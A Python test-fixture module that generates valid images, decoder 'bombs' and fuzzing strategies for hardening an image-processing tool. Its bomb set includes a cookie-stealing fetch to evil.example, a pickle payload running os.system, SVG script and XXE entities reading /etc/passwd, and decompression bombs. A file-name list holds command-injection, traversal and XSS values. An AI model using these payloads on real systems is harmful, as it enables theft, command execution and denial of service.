"""Pictures made to break things: real files of every kind, mutations of them, and hand-made bombs.

`samples` are good files; `bombs` are files that each attack one weakness of decoders; `mutants`,
`chunk_soup`, `arrays` and `names` are hypothesis strategies.
"""

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np
import torch
from hypothesis import strategies as st
from PIL import Image, ImageCms, PngImagePlugin

PORTRAIT = Path(__file__).parents[2] / "examples" / "astronaut.png"
PNG_START = b"\x89PNG\r\n\x1a\n"
INTERESTING = (0, 1, 0x7F, 0x80, 0xFF, 0x7FFF, 0xFFFF, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF)


# Good files


@cache
def portrait(side: int = 192) -> Image.Image:
    """A photo with one face."""
    return Image.open(PORTRAIT).convert("RGB").crop((130, 20, 322, 212)).resize((side, side))


@cache
def texture(width: int = 64, height: int = 48) -> Image.Image:
    """A small picture without a face."""
    pixels = np.random.default_rng(0).integers(0, 256, (height // 4, width // 4, 3), np.uint8)
    return Image.fromarray(pixels).resize((width, height), Image.Resampling.BICUBIC)


def encode(image: Image.Image, kind: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    image.copy().save(buffer, kind, **options)
    return buffer.getvalue()


def exif_block() -> bytes:
    block = Image.Exif()
    block[0x0112] = 6
    block[0x010F] = "camera" * 20
    block.get_ifd(0x8825).update({1: "N", 2: (52.0, 30.0, 0.0), 3: "E", 4: (13.0, 20.0, 0.0)})
    return block.tobytes()


def adobe_rgb() -> bytes:
    """An EXIF block as of a camera that was set to Adobe RGB."""
    block = Image.Exif()
    block.get_ifd(0x8769).update({0xA001: 0xFFFF, 0xA005: {1: "R03"}})
    return block.tobytes()


def display_p3(png: bytes) -> bytes:
    """A PNG that names its colours by the numbers of ITU-T H.273."""
    return png[:33] + chunk(b"cICP", bytes([12, 13, 0, 1])) + png[33:]


@cache
def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


@cache
def samples() -> dict[str, bytes]:
    """Good files of every format and mode, without a face, with all the metadata they can carry."""
    photo = texture()
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "a" * 200, zip=True)
    text.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta tiff:Orientation='3'/>")
    meta = {"exif": exif_block(), "icc_profile": srgb_profile()}
    deep = np.linspace(0, 65535, 64 * 48).reshape(48, 64)
    lab = ImageCms.profileToProfile(
        photo, ImageCms.createProfile("sRGB"), ImageCms.createProfile("LAB"), outputMode="LAB"
    )

    def frames(kind: str) -> bytes:  # of new images, as Pillow leaves settings on those it saves
        more = [photo.rotate(90), photo.rotate(180)]
        return encode(photo, kind, save_all=True, append_images=more)

    return {
        "png": encode(photo, "PNG", pnginfo=text, **meta),
        "png rgba": encode(photo.convert("RGBA"), "PNG", **meta),
        "png palette": encode(photo.quantize(7), "PNG", transparency=b"\0\x80\xff", **meta),
        "png colour key": encode(photo, "PNG", transparency=(1, 2, 3)),
        "png grey alpha": encode(photo.convert("LA"), "PNG"),
        "png 16 bit": encode(Image.fromarray(deep.astype(np.uint16)), "PNG"),
        "png 1 bit": encode(photo.convert("1"), "PNG"),
        "png animated": frames("PNG"),
        "png display p3": display_p3(encode(photo, "PNG")),
        "jpeg": encode(photo, "JPEG", comment=b"hello", **meta),
        "jpeg progressive": encode(photo, "JPEG", progressive=True, **meta),
        "jpeg cmyk": encode(photo.convert("CMYK"), "JPEG", **meta),
        "jpeg grey": encode(photo.convert("L"), "JPEG", **meta),
        "jpeg two pictures": frames("MPO"),
        "jpeg without end": encode(photo, "JPEG", **meta)[:-2],
        "jpeg adobe rgb": encode(photo, "JPEG", exif=adobe_rgb()),
        "webp": encode(photo, "WEBP", **meta),
        "webp lossless": encode(photo.convert("RGBA"), "WEBP", lossless=True, **meta),
        "webp animated": frames("WEBP"),
        "bmp": encode(photo, "BMP"),
        "bmp runs": runs_bmp(64, 48, b"\x40\x05\0\0" * 48 + b"\0\1"),
        "gif": encode(photo.quantize(16), "GIF", comment=b"hello"),
        "gif animated": frames("GIF"),
        "tiff": encode(photo, "TIFF", **meta),
        "tiff lzw": encode(photo, "TIFF", compression="tiff_lzw", icc_profile=srgb_profile()),
        "tiff deflate": encode(photo.convert("RGBA"), "TIFF", compression="tiff_deflate"),
        "tiff jpeg": encode(photo, "TIFF", compression="jpeg"),
        "tiff cmyk": encode(photo.convert("CMYK"), "TIFF"),
        "tiff lab": encode(lab, "TIFF"),
        "tiff 32 bit": encode(Image.fromarray(deep.astype(np.int32)), "TIFF"),
        "tiff float": encode(Image.fromarray((deep / 65535).astype(np.float32)), "TIFF"),
        "tiff pages": frames("TIFF"),
        "png 16 bit colour": deep_png(),
        "png cutout": encode(cutout(photo), "PNG", **meta),
        "webp cutout": encode(cutout(photo), "WEBP", exif=exif_block()),
        "avif": encode(photo, "AVIF", **meta),
        "avif cutout": encode(cutout(photo), "AVIF"),
        **heic(photo),
    }


def cutout(photo: Image.Image) -> Image.Image:
    """Mode RGBA: opaque in the middle, nothing at the left, and all between at the top."""
    alpha = np.full((photo.height, photo.width), 255, np.uint8)
    alpha[:16] = np.linspace(0, 255, 16).astype(np.uint8)[:, None]
    alpha[:, :8] = 0
    clear = photo.convert("RGBA")
    clear.putalpha(Image.fromarray(alpha))
    return clear


def deep_png() -> bytes:
    """A PNG of 16 bits a colour, which Pillow can't write."""
    rows = np.zeros((48, 1 + 64 * 6), np.uint8)
    rows[:, 1:] = np.random.default_rng(0).integers(0, 256, (48, 64 * 6))
    pixels = chunk(b"IDAT", zlib.compress(rows.tobytes()))
    return png_header(64, 48, depth=16) + pixels + chunk(b"IEND", b"")


def heic(photo: Image.Image) -> dict[str, bytes]:
    """HEIC files, where the extra is installed that writes and reads them."""
    try:
        import pillow_heif
    except ImportError:
        return {}
    files = {}
    for name, image in (("heic", photo), ("heic cutout", cutout(photo))):
        buffer = io.BytesIO()
        pillow_heif.from_pillow(image).save(buffer, quality=90)
        files[name] = buffer.getvalue()
    return files


@cache
def faces() -> dict[str, bytes]:
    """Photos with a face in several formats; they pass the gate and are protected."""
    photo = portrait()
    return {
        "png": encode(photo, "PNG", exif=exif_block()),
        "jpeg": encode(photo, "JPEG", icc_profile=srgb_profile()),
        "webp": encode(photo, "WEBP"),
        "gif": encode(photo, "GIF"),
        "tiff": encode(photo, "TIFF"),
        "png cutout": encode(cutout(photo), "PNG"),
        "avif": encode(photo, "AVIF"),
        "jpeg without its end": encode(photo, "JPEG")[:-2],
    }


# Parts of files


def chunk(kind: bytes, body: bytes) -> bytes:
    """A PNG chunk."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_header(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    size = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return PNG_START + chunk(b"IHDR", size)


def with_chunks(*chunks: bytes) -> bytes:
    """The PNG sample with chunks after its header."""
    data = encode(texture(), "PNG")
    return data[:33] + b"".join(chunks) + data[33:]


def segment(marker: int, body: bytes) -> bytes:
    """A JPEG segment."""
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def with_segments(*segments: bytes) -> bytes:
    """The JPEG sample with segments before all others."""
    data = encode(texture(), "JPEG")
    return data[:2] + b"".join(segments) + data[2:]


def repeated_scans(side: int, count: int) -> bytes:
    """A JPEG whose last scan comes many times: each is a pass over all pixels."""
    data = encode(Image.new("L", (side, side), 77), "JPEG", progressive=True, quality=5)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * count + b"\xff\xd9"


def with_scans(count: int, components: bytes) -> bytes:
    """The JPEG sample with scans of no pixels, whose headers name these components."""
    data = encode(texture(), "JPEG")
    names = b"".join(bytes([name, 0]) for name in components)
    scan = segment(0xDA, bytes([len(components) & 0xFF]) + names + b"\0\xff\0")
    start = data.index(b"\xff\xda")
    return data[:start] + scan * count + data[start:-2]


def tags_over_one_value(count: int, size: int) -> bytes:
    """A TIFF directory whose tags all name the same bytes."""
    tags = b"".join(struct.pack("<HHII", 10_000 + k, 7, size, 0) for k in range(count))
    return b"II*\0" + struct.pack("<IH", 8, count) + tags + bytes(4) + bytes(size)


def tiff_with(directory: Callable[[list[bytes], int], bytes]) -> bytes:
    """The TIFF sample with a directory made of its tags (12 bytes each) and the file's length."""
    data = encode(texture(), "TIFF")
    start = struct.unpack_from("<I", data, 4)[0]
    count = struct.unpack_from("<H", data, start)[0]
    tags = [data[start + 2 + 12 * k :][:12] for k in range(count)]
    return data[:4] + struct.pack("<I", len(data)) + data[8:] + directory(tags, len(data))


def tag_bomb(tags: list[bytes], length: int) -> bytes:
    more = [struct.pack("<HHII", 40_000 + k, 7, length, 0) for k in range(20_000)]
    return struct.pack("<H", len(tags) + len(more)) + b"".join(tags + more) + bytes(4)


def endless_pages(tags: list[bytes], length: int) -> bytes:
    """A thousand pages, the last of which is followed by the first."""
    step = 2 + 12 * len(tags) + 4
    return b"".join(
        struct.pack("<H", len(tags)) + b"".join(tags) + struct.pack("<I", length + step * page)
        for page in [*range(1, 1000), 0]
    )


def set_tag(tag: int, kind: int, count: int, value: int) -> bytes:
    """The TIFF sample with one tag changed."""
    new = struct.pack("<HHII", tag, kind, count, value)
    return tiff_with(
        lambda tags, _: (
            struct.pack("<H", len(tags))
            + b"".join(new if old[:2] == new[:2] else old for old in tags)
            + bytes(4)
        )
    )


def runs_bmp(width: int, height: int, runs: bytes) -> bytes:
    """A BMP of run-length coded bytes."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(runs), 0, 0, 256, 0)
    palette = bytes(range(256)) * 4
    start = 14 + len(info) + len(palette)
    return b"BM" + struct.pack("<IHHI", start + len(runs), 0, 0, start) + info + palette + runs


def with_extensions(blocks: bytes) -> bytes:
    """The GIF sample with blocks before its picture."""
    data = encode(texture().quantize(16), "GIF")
    at = data.index(b"\x2c\0\0\0\0")
    return data[:at] + blocks + data[at:]


SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>
<image href="file:///etc/passwd"/></svg>"""
HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script><img src=x>"
ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">
<!ENTITY c SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&b;&c;</svg>"""


@cache
def bombs() -> dict[str, bytes]:
    """Files that each attack one weakness; none takes more than 10 MB here."""
    png, jpeg, gif = (encode(texture(), kind) for kind in ("PNG", "JPEG", "GIF"))
    exif = tags_over_one_value(20_000, 60_000)
    packed = zlib.compress(bytes(50_000_000), 9)
    wide = zlib.compress(bytes(1 + 3 * 20_000) * 1000, 9)
    bad_profile = bytearray(srgb_profile())
    bad_profile[128:132] = b"\xff\xff\xff\xff"  # number of tags
    return {
        "empty": b"",
        "text": b"Dear diary",
        "zeros": bytes(100_000),
        "svg": SVG,
        "html": HTML,
        "xml entities": ENTITIES,
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n(/etc/passwd)(r)file",
        "zip": b"PK\3\4" + bytes(100),
        "pickle": b"\x80\x04cos\nsystem\n(S'touch /tmp/owned'\ntR.",
        "elf": b"\x7fELF" + bytes(200),
        "heic": b"\0\0\0\x18ftypheic" + bytes(100),
        "png then html": png + HTML,
        "gif and script": gif[:6] + b"=1/*" + gif[10:] + b"*/;alert(1)",
        "jpeg with script": with_segments(segment(0xFE, HTML)),
        "jpeg then zip": jpeg + b"PK\3\4" + bytes(1000),
        "jpeg then video": jpeg + b"\0\0\0\x18ftypmp42" + b"\xff\xda" * 50_000,
        "png size 0 x 0": png_header(0, 0) + chunk(b"IDAT", zlib.compress(b"")),
        "png size 1 x 1": encode(texture().resize((1, 1)), "PNG"),
        "png size 1 x 60,000": encode(Image.new("RGB", (1, 60_000)), "PNG"),
        "png size 40 x 40": encode(texture().resize((40, 40)), "PNG"),
        "png size 40 x 30,000": encode(Image.new("RGB", (40, 30_000)), "PNG"),
        "jpeg size 65,500 x 40": encode(Image.new("L", (65_500, 40)), "JPEG"),
        "png claims 2^31": png_header(2**31 - 1, 2**31 - 1) + chunk(b"IDAT", b""),
        "png claims 2^32": png_header(2**32 - 1, 2**32 - 1) + chunk(b"IDAT", b""),
        "png 20,000 x 20,000": png_header(20_000, 20_000) + chunk(b"IDAT", wide),
        "png 7,000 x 7,000 of nothing": encode(Image.new("1", (7000, 7000)), "PNG"),
        "gif claims 65,535": gif[:6] + b"\xff\xff\xff\xff" + gif[10:],
        "bmp claims 2^31": runs_bmp(2**31 - 1, 2**31 - 1, b"\0\1"),
        "bmp negative": runs_bmp(-64, -48, b"\0\1"),
        "bmp 7,000 x 7,000 in short runs": runs_bmp(7000, 7000, b"\1\5" * 500_000 + b"\0\1"),
        "bmp jumps": runs_bmp(7000, 7000, b"\0\2\xff\xff" * 500_000 + b"\0\1"),
        "tiff claims 2^32": set_tag(256, 4, 1, 2**32 - 1),
        "tiff rows per strip 0": set_tag(278, 3, 1, 0),
        "tiff samples 65,535": set_tag(277, 3, 1, 65_535),
        "tiff 65,535 bits": set_tag(258, 3, 1, 65_535),
        "tiff fax": encode(texture().convert("1"), "TIFF", compression="group4"),
        "tiff compression 6": set_tag(259, 3, 1, 6),
        "tiff strip count 2^31": set_tag(273, 4, 2**31, 8),
        "tiff tag bomb": tiff_with(tag_bomb),
        "tiff endless pages": tiff_with(endless_pages),
        "tiff own page": tiff_with(
            lambda tags, at: struct.pack("<H", len(tags)) + b"".join(tags) + struct.pack("<I", at)
        ),
        "png exif bomb": with_chunks(chunk(b"eXIf", exif)),
        "png text bomb": with_chunks(chunk(b"zTXt", b"a\0\0" + packed)),
        "png international text bomb": with_chunks(chunk(b"iTXt", b"a\0\1\0\0\0" + packed)),
        "png profile bomb": with_chunks(chunk(b"iCCP", b"a\0\0" + packed)),
        "png 1 MB of text": with_chunks(chunk(b"tEXt", b"a\0" + b"b" * 1_000_000)),
        "png 5 MB of text": with_chunks(chunk(b"tEXt", b"a\0" + b"b" * 5_000_000)),
        "png 100,000 chunks": with_chunks(chunk(b"teSt", b"") * 100_000),
        "png 100,000 texts": with_chunks(chunk(b"tEXt", b"a\0b") * 100_000),
        "png of no picture": PNG_START + chunk(b"IEND", b""),
        "png frames without end": with_chunks(chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))),
        "png with odd palette": png_header(64, 64, 8, 3) + chunk(b"PLTE", b"\0" * 7) + png[33:],
        "jpeg exif bomb": with_segments(segment(0xE1, b"Exif\0\0" + exif[:65_000])),
        "jpeg exif bomb in parts": with_segments(
            *(segment(0xE1, b"Exif\0\0" + exif[k : k + 65_000]) for k in range(0, 300_000, 65_000))
        ),
        "jpeg 200,000 comments": with_segments(segment(0xFE, b"") * 200_000),
        "jpeg 100,000 exif blocks": with_segments(segment(0xE1, b"Exif\0\0x") * 100_000),
        "jpeg 4 MB of fill bytes": jpeg[:2] + b"\xff" * 4_000_000 + jpeg[2:],
        "jpeg segment of no length": with_segments(b"\xff\xe1\0\0"),
        "jpeg broken profile parts": with_segments(
            segment(0xE2, b"ICC_PROFILE\0\0\0" + srgb_profile()),
            segment(0xE2, b"ICC_PROFILE\0\xff\1" + srgb_profile()),
        ),
        "jpeg 99 scans of 30,000 components": with_scans(99, bytes(range(256)) * 120),
        "jpeg 160,000 scans": repeated_scans(1000, 160_000),
        "jpeg 49 MP, 1,000 scans": repeated_scans(7000, 1000),
        "gif 1 million comments": with_extensions(b"!\xfe\1a\0" * 1_000_000),
        "gif 1 MB of garbage": with_extensions(bytes(1_000_000)),
        "gif without a picture": gif[:13] + b";",
        "webp without a picture": b"RIFF\x0c\0\0\0WEBPVP8L\0\0\0\0",
        "webp claims 16,383": (
            b"RIFF\x1e\0\0\0WEBPVP8X\n\0\0\0\2\0\0\0\xfe\x3f\0\xfe\x3f\0" + bytes(8)
        ),
        "profile of letters": encode(texture(), "PNG", icc_profile=b"not a profile" * 20),
        "profile of 2^32 tags": encode(texture(), "PNG", icc_profile=bytes(bad_profile)),
        "profile of another space": encode(
            texture().convert("CMYK"), "JPEG", icc_profile=srgb_profile()
        ),
    }


# Strategies


def fixed(data: bytes) -> bytes:
    """A PNG with right checksums, so that what was changed reaches the decoder; others as is."""
    if not data.startswith(PNG_START):
        return data
    parts, at = [PNG_START], len(PNG_START)
    while at + 12 <= len(data):
        size = struct.unpack_from(">I", data, at)[0]
        kind, body = data[at + 4 : at + 8], data[at + 8 : at + 8 + size]
        parts.append(chunk(kind, body))
        at += 12 + size
    return b"".join(parts)


@st.composite
def mutants(draw: st.DrawFn, files: dict[str, bytes] | None = None) -> bytes:
    """A good file with up to four changes: cuts, copies, other bytes, lengths, headers."""
    pool = list((files or samples()).values())
    data = bytearray(draw(st.sampled_from(pool)))
    for _ in range(draw(st.integers(1, 4))):
        # Headers are where decoders decide, so half of the changes fall there.
        end = draw(st.sampled_from([min(len(data), 200), len(data)]))
        at = draw(st.integers(0, max(end - 1, 0)))
        change = draw(st.sampled_from(["flip", "number", "cut", "drop", "copy", "insert", "swap"]))
        if change == "flip" and data:
            data[at] ^= 1 << draw(st.integers(0, 7))
        elif change == "number":
            order = draw(st.sampled_from(["<", ">"]))
            size, code = draw(st.sampled_from([(0xFF, "B"), (0xFFFF, "H"), (0xFFFFFFFF, "I")]))
            number = struct.pack(order + code, draw(st.sampled_from(INTERESTING)) & size)
            data[at : at + len(number)] = number
        elif change == "cut":
            del data[at:]
        elif change == "drop":
            del data[at : at + draw(st.integers(1, 64))]
        elif change == "copy":
            part = data[at : at + draw(st.integers(1, 400))] * draw(st.integers(1, 20))
            data[at:at] = part
        elif change == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=64))
        elif change == "swap":
            other = draw(st.sampled_from(pool))
            data[: min(at, 64)] = other[: min(at, 64)]
    return fixed(bytes(data)) if draw(st.booleans()) else bytes(data)


@st.composite
def chunk_soup(draw: st.DrawFn) -> bytes:
    """A PNG of any header and any chunks, all with right checksums; half end in real pixels."""
    size = st.just(64) | st.integers(0, 80) | st.integers(0, 2**32 - 1)
    depth = draw(st.sampled_from([8, 8, 1, 2, 4, 16, 3]))
    header = png_header(draw(size), draw(size), depth, draw(st.integers(0, 7)))
    pixels = chunk(b"IDAT", zlib.compress(bytes(64 * 600))) + chunk(b"IEND", b"")
    kinds = [b"IDAT", b"PLTE", b"tRNS", b"eXIf", b"iCCP", b"gAMA", b"cHRM", b"pHYs", b"tEXt"]
    kinds += [b"zTXt", b"iTXt", b"acTL", b"fcTL", b"fdAT", b"sRGB", b"bKGD", b"IHDR", b"IEND"]
    body = st.binary(max_size=80) | st.binary(max_size=200).map(zlib.compress)
    chunks = draw(st.lists(st.builds(chunk, st.sampled_from(kinds), body), max_size=12))
    return header + b"".join(chunks) + draw(st.sampled_from([b"", pixels]))


@st.composite
def arrays(draw: st.DrawFn) -> np.ndarray | torch.Tensor:
    """Arrays and tensors of any type, shape and values, and some that claim to be huge."""
    side = st.sampled_from([0, 1, 3, 4, 39, 40, 41, 64])
    shape = tuple(draw(st.lists(side, max_size=5)))
    if draw(st.integers(0, 2)):
        tail = draw(st.sampled_from([(), (1,), (2,), (3,), (4,)]))
        shape = (draw(st.integers(38, 60)), draw(st.integers(38, 60)), *tail)
    kinds = [np.uint8, np.float32, np.float64, np.float16, np.int64, np.uint16, np.bool_]
    dtype = np.dtype(draw(st.sampled_from([*kinds, np.complex64, "U3", "M8[s]", object])))
    fill = {"f": st.floats(width=16), "u": st.integers(0, 255), "O": st.none()}.get(dtype.kind)
    array = np.zeros(shape, dtype)
    if fill is not None and array.size:
        array.fill(draw(fill))
        array.flat[0] = draw(fill)
    form = draw(st.sampled_from(["array", "array", "huge", "matrix", "masked", "view", "tensor"]))
    if form == "huge":
        return np.broadcast_to(np.zeros(3, np.uint8), (10**6, 10**6, 3))
    if form == "matrix" and array.ndim == 2:
        return np.asmatrix(array)
    if form == "masked":
        return np.ma.masked_array(array)
    if form == "view" and array.ndim:
        return array[::-1].T
    if form == "tensor" and dtype.kind in "fuib" and dtype != np.uint16:
        tensor = torch.from_numpy(array)
        if draw(st.booleans()) and tensor.ndim == 3:
            tensor = tensor.permute(2, 0, 1)
        kinds = [torch.Tensor.clone, torch.Tensor.to_sparse, lambda t: t.to("meta")]
        return draw(st.sampled_from([*kinds, lambda t: t.to(torch.bfloat16)]))(tensor)
    return array


def images() -> st.SearchStrategy[Image.Image]:
    """PIL images of any mode, size and `info`."""
    modes = ["1", "L", "P", "RGB", "RGBA", "CMYK", "YCbCr", "LAB", "HSV", "I", "F", "LA", "PA"]
    side = st.sampled_from([0, 1, 39, 40, 64])
    info = st.fixed_dictionaries(
        {},
        optional={
            "icc_profile": st.binary(max_size=200) | st.just(srgb_profile()),
            "exif": st.binary(max_size=200) | st.just(exif_block()),
            "transparency": st.integers(-1, 300) | st.binary(max_size=4) | st.just((1, 2, 3)),
        },
    )

    def build(mode: str, width: int, height: int, extra: dict) -> Image.Image:
        image = Image.new(mode, (width, height))
        image.info.update(extra)
        return image

    kinds = st.sampled_from([*modes, "La", "RGBa", "RGBX", "I;16", "I;16B"])
    return st.builds(build, kinds, side, side, info)


NAMES = (
    "..", ".", "", "/", "~", "-rf.png", "--help.png", "a b.png", "a\nb.png",
    "\x1b[2Ja.png", "a.png.exe",
    "..png", ".png", "C:\\x.png", "..\\..\\x.png", "%2e%2e%2f.png", "$(reboot).png", "`id`.png",
    "<script>alert(1)<script>.png", "\"'><img src=x onerror=alert(1)>.png", "{{7*7}}.png", "|id",
    "%s%n.png", "\u202egnp.exe", "\U0001f600.png", "e\u0301.png", "a" * 255, "a" * 5000, "NUL",
    "con.png", "\udcff.png", "a\0b.png", "\ud800.png", "file:///etc/passwd",
    "http://127.0.0.1/a.png", "data:image/png;base64,AAAA", "/etc/passwd", "../../../etc/passwd",
    "/proc/self/mem", "/proc/self/environ", "/dev/null", "/dev/zero", "/dev/stdin",
)  # fmt: skip


def names() -> st.SearchStrategy[str]:
    """File names and things that look like paths."""
    return st.sampled_from(NAMES) | st.text(max_size=30) | st.text("./\\~%a\n\0", max_size=12)


def crowd(columns: int, rows: int, side: int = 96) -> Image.Image:
    """A photo of `columns * rows` faces, each of `side` px."""
    one = portrait(side)
    photo = Image.new("RGB", (columns * side, rows * side))
    for column in range(columns):
        for row in range(rows):
            photo.paste(one, (column * side, row * side))
    return photo
